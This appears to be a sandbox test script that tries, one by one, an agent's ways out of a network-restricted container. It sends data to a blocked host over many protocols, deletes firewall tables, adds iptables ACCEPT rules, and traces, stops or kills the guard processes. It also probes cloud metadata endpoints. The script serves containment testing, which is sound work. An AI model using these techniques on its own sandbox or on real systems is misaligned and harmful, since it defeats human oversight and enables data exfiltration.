"""
attack.py BLOCKED BLOCKED6 ALLOWED [NAME...]: an agent's ways out, tried one by one; a line each, "NAME outcome".

"open" means that the way led out, or that the power was there; anything else is what stopped it. What in truth leaves the
container the world counts by itself (attacks.bats): this only tries. Every socket has a time-out, every child an end.
"""
import ctypes
import errno
import os
import signal
import socket
import struct
import subprocess
import sys

BLOCKED, BLOCKED6, ALLOWED = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
WAIT = 0.4
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def outcome(error):
    if isinstance(error, socket.timeout):
        return "silence"
    return errno.errorcode.get(error.errno, str(error)) if isinstance(error, OSError) and error.errno else str(error)


def tcp(address, port, family=socket.AF_INET, protocol=0, options=()):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as s:
        for option in options:
            s.setsockopt(*option)
        s.settimeout(WAIT)
        s.connect((address, port))
        return "open"


def udp(address, port, data=b"exfiltrated", family=socket.AF_INET, kind=socket.SOCK_DGRAM, protocol=0, options=(), answer=True):
    with socket.socket(family, kind, protocol) as s:
        for option in options:
            s.setsockopt(*option)
        s.settimeout(WAIT)
        s.sendto(data, (address, port))
        if not answer:
            return "sent"
        s.recv(99)
        return "open"


# plain packets, and protocols beside TCP and UDP

@attack
def connect():
    return tcp(BLOCKED, 443)


@attack
def connect_ipv6():
    return tcp(BLOCKED6, 443, socket.AF_INET6)


@attack
def connect_mapped():
    return tcp("::ffff:" + BLOCKED, 443, socket.AF_INET6)


@attack
def sendto():
    return udp(BLOCKED, 9999)


@attack
def sendmsg_unconnected():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(WAIT)
        s.sendmsg([b"exfil", b"trated"], [], 0, (BLOCKED, 9999))
        s.recv(99)
        return "open"


@attack
def quic():
    return udp(BLOCKED, 443, b"\xc0" + bytes(1199))


@attack
def tcp_fast_open():
    with socket.socket() as s:
        s.settimeout(WAIT)
        s.sendto(b"exfiltrated", 0x20000000, (BLOCKED, 443))
        return "open"


@attack
def multipath_tcp():
    return tcp(BLOCKED, 443, protocol=262)


@attack
def sctp():
    with socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132) as s:
        s.settimeout(WAIT)
        s.connect((BLOCKED, 443))
        return "open"


@attack
def udplite():
    return udp(BLOCKED, 9999, protocol=136)


@attack
def udplite_to_allowed():
    return udp(ALLOWED, 9999, protocol=136)


@attack
def dccp():
    with socket.socket(socket.AF_INET, 6, 33) as s:
        s.settimeout(WAIT)
        s.connect((BLOCKED, 443))
        return "open"


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data[:len(data) // 2 * 2])) + (data[-1] << 8 if len(data) % 2 else 0)
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def echo_request(data):
    head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    return struct.pack("!BBHHH", 8, 0, checksum(head + data), 1, 1) + data


@attack
def ping_socket():
    return udp(BLOCKED, 0, echo_request(b"exfiltrated!"), protocol=1)


@attack
def ping_socket_to_allowed():
    return udp(ALLOWED, 0, echo_request(b"exfiltrated!"), protocol=1)


@attack
def ping_socket_ipv6():
    return udp(BLOCKED6, 0, struct.pack("!BBHHH", 128, 0, 0, 1, 1) + b"exfiltrated!", socket.AF_INET6, protocol=58)


@attack
def fragments():
    return udp(BLOCKED, 9999, bytes(5000), options=[(socket.IPPROTO_IP, 10, 0)])


@attack
def record_route():
    return udp(BLOCKED, 9999, options=[(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x07\x0b\x04" + bytes(8) + b"\x00")])


@attack
def source_route():
    """The header names the allowed host, the option the blocked one: the allowed host gets the packet, and drops it."""
    option = b"\x83\x07\x04" + socket.inet_aton(ALLOWED) + b"\x00"
    return udp(BLOCKED, 9999, options=[(socket.IPPROTO_IP, socket.IP_OPTIONS, option)])


@attack
def type_of_service():
    return udp(BLOCKED, 9999, options=[(socket.IPPROTO_IP, socket.IP_TOS, 0xff)])


@attack
def mark():
    return udp(BLOCKED, 9999, options=[(socket.SOL_SOCKET, 36, 1)])


@attack
def bind_to_device():
    return udp(BLOCKED, 9999, options=[(socket.SOL_SOCKET, 25, b"eth0\0")])


@attack
def transparent():
    return udp(BLOCKED, 9999, options=[(socket.IPPROTO_IP, 19, 1)])


@attack
def multicast():
    return udp("224.0.0.251", 5353, answer=False)


@attack
def multicast_ipv6():
    return udp("ff02::fb%eth0", 5353, family=socket.AF_INET6, answer=False)


@attack
def broadcast():
    return udp("255.255.255.255", 9999, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)], answer=False)


@attack
def zero_address_port():
    return udp(BLOCKED, 0)


# sockets of other kinds

def raw(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return "open"


@attack
def raw_socket():
    return raw(socket.AF_INET, socket.SOCK_RAW, 255)


@attack
def raw_socket_ipv6():
    return raw(socket.AF_INET6, socket.SOCK_RAW, 58)


@attack
def raw_tunnel_ipv6_in_ipv4():
    return raw(socket.AF_INET, socket.SOCK_RAW, 41)


@attack
def raw_gre():
    return raw(socket.AF_INET, socket.SOCK_RAW, 47)


@attack
def packet_socket():
    return raw(socket.AF_PACKET, socket.SOCK_RAW, 0)


@attack
def packet_socket_dgram():
    return raw(socket.AF_PACKET, socket.SOCK_DGRAM, 0)


@attack
def vsock():
    return raw(40, socket.SOCK_STREAM, 0)


@attack
def xdp():
    return raw(44, socket.SOCK_RAW, 0)


@attack
def alg():
    return raw(38, socket.SOCK_SEQPACKET, 0)


@attack
def netfilter_netlink():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as s:
        s.settimeout(WAIT)
        # delete every table: a batch that a firewall's owner would send
        begin = struct.pack("=IHHII", 20, 0x10, 1, 1, 0) + struct.pack("=BBH", 0, 0, socket.htons(10))
        delete = struct.pack("=IHHII", 20, 0x0a02, 5, 2, 0) + struct.pack("=BBH", 0, 0, 0)
        end = struct.pack("=IHHII", 20, 0x11, 1, 3, 0) + struct.pack("=BBH", 0, 0, socket.htons(10))
        s.send(begin + delete + end)
        code = struct.unpack("=i", s.recv(4096)[16:20])[0]
        return "open" if code == 0 else errno.errorcode.get(-code, code)


@attack
def new_interface():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(WAIT)
        name = b"tunl9\0\0\0"
        body = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("=HH", 12, 3) + name + \
            struct.pack("=HH", 12, 18 | 0x8000) + struct.pack("=HH", 8, 1) + b"gre\0"
        s.send(struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        code = struct.unpack("=i", s.recv(4096)[16:20])[0]
        return "open" if code == 0 else errno.errorcode.get(-code, code)


@attack
def tun_device():
    try:
        device = os.open("/dev/net/tun", os.O_RDWR)
    except FileNotFoundError:
        device = -1
        made = libc.mknod(b"/tmp/tun-%d" % os.getpid(), 0o20666, os.makedev(10, 200))
        if made < 0:
            return errno.errorcode[ctypes.get_errno()]
        device = os.open("/tmp/tun-%d" % os.getpid(), os.O_RDWR)
    result = libc.ioctl(device, 0x400454ca, struct.pack("16sH22x", b"tun9", 1))
    return "open" if result == 0 else errno.errorcode[ctypes.get_errno()]


# namespaces

X86 = os.uname().machine == "x86_64"


def call(number, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in arguments])
    return "open" if result >= 0 else errno.errorcode[ctypes.get_errno()]


def in_child(function):
    reads, writes = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(5)
        try:
            os.write(writes, str(function()).encode())
        except Exception as failure:
            os.write(writes, outcome(failure).encode())
        os._exit(0)
    os.close(writes)
    said = os.read(reads, 999).decode()
    os.close(reads)
    os.waitpid(child, 0)
    return said or "killed"


@attack
def user_namespace():
    return in_child(lambda: call(272 if X86 else 97, 0x10000000))


@attack
def user_and_network_namespace():
    return in_child(lambda: call(272 if X86 else 97, 0x50000000))


@attack
def clone_user_namespace():
    def clone():
        child = libc.syscall(ctypes.c_long(56 if X86 else 220), ctypes.c_long(0x10000000 | 17), 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        return "open" if child > 0 else errno.errorcode[ctypes.get_errno()]
    return in_child(clone)


@attack
def join_namespace_of_process_1():
    def join():
        fd = os.open("/proc/1/ns/net", os.O_RDONLY)
        return call(308 if X86 else 268, fd, 0)
    return in_child(join)


# process 1 and the guard: looked into, traced, robbed, ended

def others():
    """Process 1, and every process that belongs to the guard's users."""
    found = [1]
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) not in (1, os.getpid()):
            try:
                if os.stat("/proc/" + entry).st_uid in (65501, 65502) or \
                        open("/proc/%s/comm" % entry).read().startswith("guard-"):
                    found.append(int(entry))
            except OSError:
                pass
    return found


def each_other(function):
    """Whoever falls: "open", else the outcomes."""
    said = set()
    for pid in others():
        try:
            said.add(str(function(pid)))
        except OSError as failure:
            said.add(outcome(failure))
    return "open" if "open" in said else ",".join(sorted(said))


@attack
def trace():
    return each_other(lambda pid: "open" if libc.ptrace(16, pid, 0, 0) == 0 else errno.errorcode[ctypes.get_errno()])


@attack
def seize():
    return each_other(lambda pid: "open" if libc.ptrace(0x4206, pid, 0, 0) == 0 else errno.errorcode[ctypes.get_errno()])


@attack
def memory():
    return each_other(lambda pid: os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR)) or "open")


@attack
def read_memory():
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    room = ctypes.create_string_buffer(8)

    def read(pid):
        mine, theirs = Vector(ctypes.addressof(room), 8), Vector(0x400000, 8)
        got = libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        return "open" if got > 0 else errno.errorcode[ctypes.get_errno()]
    return each_other(read)


@attack
def descriptors_by_pidfd():
    def take(pid):
        fd = libc.syscall(ctypes.c_long(434), pid, 0)
        if fd < 0:
            return errno.errorcode[ctypes.get_errno()]
        for number in range(20):
            if libc.syscall(ctypes.c_long(438), fd, number, 0) >= 0:
                return "open"
        return errno.errorcode[ctypes.get_errno()]
    return each_other(take)


@attack
def descriptors_by_proc():
    return each_other(lambda pid: "open" if os.listdir("/proc/%d/fd" % pid) is not None else "")


@attack
def environment_of_process_1():
    return "open" if open("/proc/1/environ").read() is not None else ""


@attack
def stop_the_guard():
    def stop(pid):
        if pid == 1:
            return "spared"
        os.kill(pid, signal.SIGSTOP)
        return "open"
    return each_other(stop)


@attack
def kill_the_guard():
    def kill(pid):
        if pid == 1:
            return "spared"
        os.kill(pid, signal.SIGKILL)
        return "open"
    return each_other(kill)


@attack
def kill_process_1():
    os.kill(1, signal.SIGKILL)
    os.kill(1, signal.SIGSTOP)
    return "ignored"


@attack
def limits_of_the_guard():
    class Limit(ctypes.Structure):
        _fields_ = [("now", ctypes.c_ulong), ("most", ctypes.c_ulong)]

    def set_limit(pid):
        if pid == 1:
            return "spared"
        nothing = Limit(0, 0)
        return "open" if libc.prlimit(pid, 7, ctypes.byref(nothing), None) == 0 else errno.errorcode[ctypes.get_errno()]
    return each_other(set_limit)


@attack
def control_socket():
    """Speaks to the warden without the proof."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as s:
        s.settimeout(2)
        s.connect("\0secure-init")
        s.send(bytes(2048))
        said = s.recv(4096)
        return "open" if not said else "answered"


@attack
def allow_by_program():
    done = subprocess.run([os.environ["SECURE_INIT"], "allow", BLOCKED], capture_output=True, timeout=20)
    return "open" if done.returncode == 0 else "refused"


@attack
def set_up_again():
    done = subprocess.run([os.environ["SECURE_INIT"], "setup"], capture_output=True, timeout=20,
                          env={"PATH": os.environ["PATH"], "PARA_ALLOWED_DOMAINS": BLOCKED})
    return "open" if done.returncode == 0 else "refused"


@attack
def preload():
    done = subprocess.run([os.environ["SECURE_INIT"], "--version"], capture_output=True, timeout=20,
                          env={"LD_PRELOAD": "/nonexistent.so", "LD_LIBRARY_PATH": "/tmp", "LD_AUDIT": "/nonexistent.so"})
    return "open" if b"nonexistent" in done.stderr else "static"


@attack
def setuid_programs():
    """Whatever the image has: each must come up with nothing more than we hold."""
    gained = []
    for path in ("/usr/bin/su", "/usr/bin/sudo", "/usr/bin/mount", "/usr/bin/newgrp", "/bin/ping", "/usr/bin/chfn"):
        if os.path.exists(path) and open("/proc/self/status").read().split("NoNewPrivs:\t")[1][0] != "1":
            gained.append(path)
    return "open" if gained else "no-new-privs"


@attack
def iptables():
    done = subprocess.run(["iptables", "-I", "OUTPUT", "-j", "ACCEPT"], capture_output=True, timeout=20)
    return "open" if done.returncode == 0 else "refused"


@attack
def add_to_set():
    done = subprocess.run(["ipset", "add", "allowed-domains", BLOCKED], capture_output=True, timeout=20)
    return "open" if done.returncode == 0 else "refused"


@attack
def sysctl():
    with open("/proc/sys/net/ipv4/conf/all/route_localnet", "w") as f:
        f.write("1")
    return "open"


@attack
def set_clock():
    ctypes.set_errno(0)
    return "open" if libc.clock_settime(0, struct.pack("ll", 1, 0)) == 0 else errno.errorcode[ctypes.get_errno()]


# DNS, in every transport

def query(name, kind):
    return struct.pack("!HHHHHH", 4711, 0x100, 1, 0, 0, 0) + \
        b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)


@attack
def dns_over_tls():
    return tcp(BLOCKED, 853)


@attack
def dns_over_quic():
    return udp(BLOCKED, 853, query("exfil.example", 16))


@attack
def dns_over_https():
    return tcp(BLOCKED, 443)


@attack
def dns_on_another_port():
    return udp(BLOCKED, 5353, query("exfil.example", 16))


# the cloud, the host

@attack
def metadata():
    said = []
    for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16"):
        try:
            said.append(tcp(address, 80))
        except OSError as failure:
            said.append(outcome(failure))
    return "open" if "open" in said else said[0]


@attack
def link_local_host():
    neighbour = os.environ.get("LINK_LOCAL", "fe80::1")
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.settimeout(WAIT)
        s.connect((neighbour, 443, 0, socket.if_nametoindex("eth0")))
        return "open"


@attack
def abstract_socket_of_the_world():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(WAIT)
        s.connect("\0attack-world")
        return "open"


for name in sys.argv[4:] or ATTACKS:
    try:
        print(name, ATTACKS[name](), flush=True)
    except subprocess.TimeoutExpired:
        print(name, "time-out", flush=True)
    except Exception as failure:
        print(name, outcome(failure), flush=True)
